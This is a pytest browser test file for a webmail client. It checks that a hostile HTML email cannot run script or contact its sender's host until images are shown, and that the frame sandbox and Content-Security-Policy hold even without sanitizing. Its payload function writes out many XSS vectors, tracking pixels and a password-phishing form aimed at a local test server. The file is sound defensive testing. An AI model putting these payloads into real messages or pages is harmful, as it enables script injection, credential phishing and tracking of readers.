# ruff: noqa: E501  (HTML payloads are kept as written)
"""Hostile mail in a real browser: nothing runs, nothing phones home until "Show images".

A local HTTP server plays the sender's remote host and counts every request. Messages carry
script tags, event handlers, javascript: links, SVG payloads, CSS tricks, meta refreshes,
forms, frames and tracking pixels, all pointing at that host or at the page-level tripwire.
The message goes through the sanitizer at ingest and again at display; a second test turns
both sanitizing passes off, to prove the frame's sandbox and Content-Security-Policy hold on
their own.
"""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest

from accounts.models import MailAccount, MailboxAccess, User
from mailweb.models import Message
from tests.browser.conftest import Watch, sign_in_cookie, tripped
from tests.mailweb.factories import PNG, deliver

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]


class RemoteHost(BaseHTTPRequestHandler):
    hits: list[tuple[str, str]] = []

    def do_GET(self) -> None:
        type(self).hits.append((self.path, self.headers.get("User-Agent", "")))
        self.send_response(200)
        self.send_header("Content-Type", "image/png")
        self.send_header("Content-Length", str(len(PNG)))
        self.end_headers()
        self.wfile.write(PNG)

    do_POST = do_GET

    def log_message(self, *args: Any) -> None:
        pass


@pytest.fixture
def remote(settings: Any) -> Iterator[str]:
    RemoteHost.hits = []
    server = ThreadingHTTPServer(("127.0.0.1", 0), RemoteHost)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    # The image proxy refuses loopback; this test's "remote" host is on it, so allow it.
    settings.MAILWEB_IMAGE_PROXY_ALLOWED_NETWORKS = ["127.0.0.1/32"]
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


def payload(remote: str) -> str:
    return f"""
<html><head>
<meta http-equiv="refresh" content="0;url={remote}/meta-refresh">
<link rel="stylesheet" href="{remote}/link.css">
<style>@import url("{remote}/import.css"); body {{ background: url({remote}/style-bg.png); }}
  .x {{ behavior: url(#default#VML); width: expression(top.__tripwire('expression')); }}</style>
<base href="{remote}/">
<script>top.__tripwire('script tag'); fetch('{remote}/fetch');</script>
</head>
<body onload="top.__tripwire('body onload')" background="{remote}/body-bg.png">
<p>Dear customer, your invoice is ready.</p>
<img src="{remote}/pixel.gif?id=tracking" width="1" height="1" alt="">
<img src="{remote}/srcset.png" srcset="{remote}/srcset-2x.png 2x">
<img src="x" onerror="top.__tripwire('img onerror'); new Image().src='{remote}/onerror'">
<a id="js-link" href="javascript:top.__tripwire('javascript link')">Open your invoice</a>
<a id="data-link" href="data:text/html,<script>top.__tripwire('data link')</script>">Data</a>
<svg onload="top.__tripwire('svg onload')"><script>top.__tripwire('svg script')</script>
  <image href="{remote}/svg-image.png"/><a xlink:href="javascript:top.__tripwire('svg a')">
  <text y="20">svg link</text></a></svg>
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InRvcC5fX3RyaXB3aXJlKCdzdmcgZGF0YScpIi8+">
<math><mtext><script>top.__tripwire('math')</script></mtext></math>
<div style="background-image: url('{remote}/inline-style.png')">styled</div>
<div style="width: expression(top.__tripwire('ie expression'))">ie</div>
<table background="{remote}/table-bg.png"><tr><td>cell</td></tr></table>
<video poster="{remote}/poster.png" src="{remote}/video.mp4" autoplay></video>
<audio src="{remote}/audio.mp3" autoplay></audio>
<object data="{remote}/object.swf"></object><embed src="{remote}/embed.swf">
<iframe src="{remote}/iframe.html"></iframe>
<iframe srcdoc="<script>top.__tripwire('srcdoc')</script>"></iframe>
<form action="{remote}/phish" method="post"><input name="password" autofocus onfocus="top.__tripwire('onfocus')"><button>Log in</button></form>
<details open ontoggle="top.__tripwire('ontoggle')"><summary>more</summary></details>
<input type="image" src="{remote}/input-image.png">
<link rel="prefetch" href="{remote}/prefetch">
</body></html>
"""


@pytest.fixture
def hostile(remote: str, db: None) -> dict[str, Any]:
    mailbox = MailAccount.objects.create(
        address="inbox@example.com", method=MailAccount.Method.IMAP_PASSWORD, imap_host="x"
    )
    reader = User.objects.create_user(email="rea@example.com", password="x" * 12, name="Rea")
    MailboxAccess.objects.create(user=reader, mailbox=mailbox)
    sanitized = deliver(
        mailbox, subject="Your invoice", html=payload(remote), text="Your invoice (text)"
    )
    raw = deliver(mailbox, subject="Unsanitized", html="<p>placeholder</p>", text="x")
    Message.objects.filter(pk=raw.pk).update(html_body=payload(remote))
    raw.refresh_from_db()
    return {"reader": reader, "sanitized": sanitized, "raw": raw}


def _open(page: Any, live_server: Any, message: Message) -> None:
    page.goto(f"{live_server.url}/c/{message.conversation_id}/")
    frame = page.frame_locator(f"#frame-{message.pk}")
    frame.locator("body", has_text="your invoice is ready").wait_for()
    page.wait_for_timeout(1500)  # give anything that might fire a chance to fire


def test_nothing_executes_and_nothing_loads_until_show_images(
    page: Any, live_server: Any, hostile: dict[str, Any], remote: str, watch: Watch
) -> None:
    message: Message = hostile["sanitized"]
    sign_in_cookie(page, live_server, hostile["reader"])
    _open(page, live_server, message)
    frame = page.frame_locator(f"#frame-{message.pk}")

    # Links that try to run script do nothing when clicked.
    for link in ("#js-link", "#data-link"):
        if frame.locator(link).count():
            frame.locator(link).click(timeout=3000)
    page.wait_for_timeout(500)

    assert watch.dialogs == []
    assert tripped(page) == []
    assert RemoteHost.hits == [], "the remote host was contacted before Show images"
    assert not [url for url in watch.requests if url.startswith(remote)]

    # The reader asks for images: they come through our proxy, never from the browser.
    page.locator(f'[data-show-images="{message.pk}"]').click()
    frame.locator("body", has_text="your invoice is ready").wait_for()
    page.wait_for_timeout(1500)
    assert [path for path, _ in RemoteHost.hits if "pixel.gif" in path] == [
        "/pixel.gif?id=tracking"
    ]
    assert all("MailwebImageProxy" in agent for _, agent in RemoteHost.hits), RemoteHost.hits
    # Only <img src> images are fetched: no CSS, frames, media, forms, refreshes or prefetches.
    fetched = {path.split("?")[0] for path, _ in RemoteHost.hits}
    assert fetched <= {"/pixel.gif", "/srcset.png"}, fetched
    assert not [url for url in watch.requests if url.startswith(remote)]
    assert any("/img?t=" in url for url in watch.requests)
    assert watch.dialogs == []
    assert tripped(page) == []
    assert page.url.startswith(live_server.url)  # no meta refresh, no navigation


def test_sandbox_and_csp_hold_even_without_sanitizing(
    page: Any,
    live_server: Any,
    hostile: dict[str, Any],
    remote: str,
    watch: Watch,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The frame gets the hostile HTML byte for byte (as if the sanitizer had a hole)."""
    from mailweb.message_html import RenderedBody
    from mailweb.views import messages as message_views

    message: Message = hostile["raw"]
    monkeypatch.setattr(
        message_views,
        "render_body",
        lambda msg, show_images: RenderedBody(msg.html_body, 0, show_images),
    )
    sign_in_cookie(page, live_server, hostile["reader"])
    page.goto(f"{live_server.url}/c/{message.conversation_id}/")
    frame = page.frame_locator(f"#frame-{message.pk}")
    frame.locator("body", has_text="your invoice is ready").wait_for()
    assert frame.locator("script").count() >= 1  # really unsanitized
    page.wait_for_timeout(2000)
    for link in ("#js-link", "#data-link"):
        frame.locator(link).click(timeout=3000)
    page.wait_for_timeout(1000)
    assert watch.dialogs == []
    assert tripped(page) == []
    assert RemoteHost.hits == []
    # Chromium reports the attempts, and that the policy blocked every one of them.
    attempts = [url for url in watch.requests if url.startswith(remote)]
    assert attempts, "the unsanitized HTML should at least try to load remote resources"
    assert not [url for url in watch.responses if url.startswith(remote)]
    blocked = {
        url for url, reason in watch.failed if reason.lower() in {"csp", "net::err_blocked_by_csp"}
    }
    assert set(attempts) <= blocked, (set(attempts) - blocked, watch.failed)
    assert page.url.startswith(live_server.url)
